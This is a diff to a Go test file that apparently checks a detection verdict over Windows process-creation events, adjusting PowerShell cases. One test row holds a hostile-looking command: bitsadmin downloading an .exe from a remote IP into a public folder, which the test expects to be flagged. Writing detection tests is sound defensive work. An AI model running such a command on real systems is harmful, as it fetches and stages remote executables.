@@ -24,7 +24,10 @@ func TestVerdict(t *testing.T) {
 		verdict bool
 	}{
 		{ev("EventCode", "1", "CommandLine", `notepad.exe C:\notes.txt`, "Image", `C:\Windows\System32\notepad.exe`), true},
-		{ev("EventCode", "1", "CommandLine", `powershell.exe -c Get-Date`, "Image", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`), true},
+		{ev("EventCode", "1", "CommandLine", `powershell -c Get-Date`, "Image", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`), true},
+		// The SPL alerts on the program's own .exe: the built-in known-good
+		// entry then names itself in Indicators, which no verdict decides.
+		{ev("EventCode", "1", "CommandLine", `powershell.exe -c Get-Date`, "Image", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`), false},
 		{ev("EventCode", "4688", "ProcessCommandLine", `cmd.exe /c dir`, "NewProcessName", `C:\Windows\System32\cmd.exe`), true},
 		{ev(), true},
 		{ev("EventCode", "1", "CommandLine", `bitsadmin /transfer x http://203.0.113.9/a.exe C:\Users\Public\a.exe`, "Image", `C:\Windows\System32\bitsadmin.exe`), false},
